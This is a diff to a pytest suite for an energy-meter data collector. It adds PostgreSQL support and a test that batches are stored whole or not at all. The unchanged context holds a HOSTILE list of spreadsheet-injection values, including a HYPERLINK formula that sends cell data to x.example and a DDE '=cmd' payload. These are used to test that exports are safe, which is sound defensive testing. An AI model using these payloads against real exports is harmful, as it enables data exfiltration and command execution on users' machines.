@@ -21,6 +21,7 @@ import pytest
 
 from tools.collector import Collector, MqttSubscriber, csv_cell, serve_http, serve_https
 from tools.services import Mosquitto, ensure_pki, wait_port, free_port
+from tests.host.fleet_fixtures import db_url, pg_server  # noqa: F401 (fixtures)
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 KEY_HEX = "c0" * 16
@@ -51,9 +52,10 @@ def seal(key, b):
 
 
 class Https:
-    def __init__(self, tmp, keys=None, default_key=None, accept_unsigned=False, **limits):
+    def __init__(self, tmp, keys=None, default_key=None, accept_unsigned=False, db_url=None,
+                 **limits):
         self.col = Collector(str(tmp / "col"), keys=keys, default_key=default_key,
-                             accept_unsigned=accept_unsigned)
+                             accept_unsigned=accept_unsigned, db_url=db_url)
         ca, cert, key = ensure_pki(str(tmp / "pki"))
         self.ctx = ssl.create_default_context(cadata=ca)
         self.srv = serve_https(self.col, "127.0.0.1", 0, cert, key, **limits)
@@ -108,7 +110,7 @@ def _closed_by_server(sock, within):
 
 
 def _counter_rows(col):
-    return col.db.conn.execute("SELECT dev, ch, ctr FROM counters ORDER BY dev, ch").fetchall()
+    return [tuple(r) for r in col.db.query("SELECT dev, ch, ctr FROM counters ORDER BY dev, ch")]
 
 
 # -- the CLI -------------------------------------------------------------------------------
@@ -355,6 +357,33 @@ def test_a_body_shorter_than_its_content_length_is_refused(https):
     assert https.post(data)[0] == 200
 
 
+@pytest.mark.timeout(120)
+def test_on_sqlite_and_postgresql_a_batch_lands_whole_or_not_at_all(tmp_path, db_url):
+    h = Https(tmp_path, keys={DEV: KEY}, db_url=db_url)
+    try:
+        rows = [[1, "reading", 1700000000, "ntp", 300, 1000, "HC.."],
+                [2, "reading", 1700000005, "ntp", 301, -1, "HC.."]]      # negative index
+        assert h.post(seal(KEY, body(None, rows=rows, ctr=3))) == (400, {"error": "row"})
+        assert h.post(seal(KEY, body([1], ch="mqtt", ctr=3))) == (
+            403, {"error": "channel mismatch"})
+        assert h.col.count() == 0 and _counter_rows(h.col) == []
+        st, resp = h.post(seal(KEY, body([1, 2, 3], ctr=3)), {"X-Linky-Device": DEV})
+        assert (st, resp["stored"]) == (200, 3)
+        assert h.post(seal(KEY, body([4], ctr=3))) == (409, {"error": "replay",
+                                                             "last_ctr": 3})
+        st, resp = h.post(seal(KEY, body([3, 4], ctr=4)))
+        assert (st, resp["stored"], resp["duplicates"]) == (200, 1, 1)
+        got = h.col.readings()
+        assert [(r["seq"], r["apparent_power_va"], r["energy_import_wh"], r["t"])
+                for r in got] == [(s, 300 + s, 1000 + s, 1700000000 + 5 * s)
+                                  for s in (1, 2, 3, 4)]
+        assert _counter_rows(h.col) == [(DEV, "https", 4)]
+        st, _, raw = h.get("/export.csv")
+        assert st == 200 and raw.decode().count("\n") == 5
+    finally:
+        h.close()
+
+
 # -- exports and pages ----------------------------------------------------------------------
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "+41 1234",
            "-2+3", "@SUM(1+1)"]
@@ -395,9 +424,9 @@ def test_hostile_rows_do_not_break_the_pages(https):
         ("evil", 0, 5, {"seq": 5, "kind": 7, "t": None}),
     ]
     for dev, ep, seq, rec in hostile:
-        db.execute("INSERT INTO readings VALUES (?,?,?,?,?,?,?,?,?)",
-                   (dev, ep, seq, str(rec.get("kind")), None, None, json.dumps(rec), "https",
-                    0.0))
+        db.execute("INSERT INTO readings (dev, ep, seq, kind, data, ch, received) "
+                   "VALUES (?,?,?,?,?,?,?)",
+                   (dev, ep, seq, str(rec.get("kind")), json.dumps(rec), "https", 0.0))
     for path in ("/", "/plot.html", "/export.csv", "/export.json", "/stats.json",
                  "/plot.png"):
         st, ctype, raw = https.get(path)
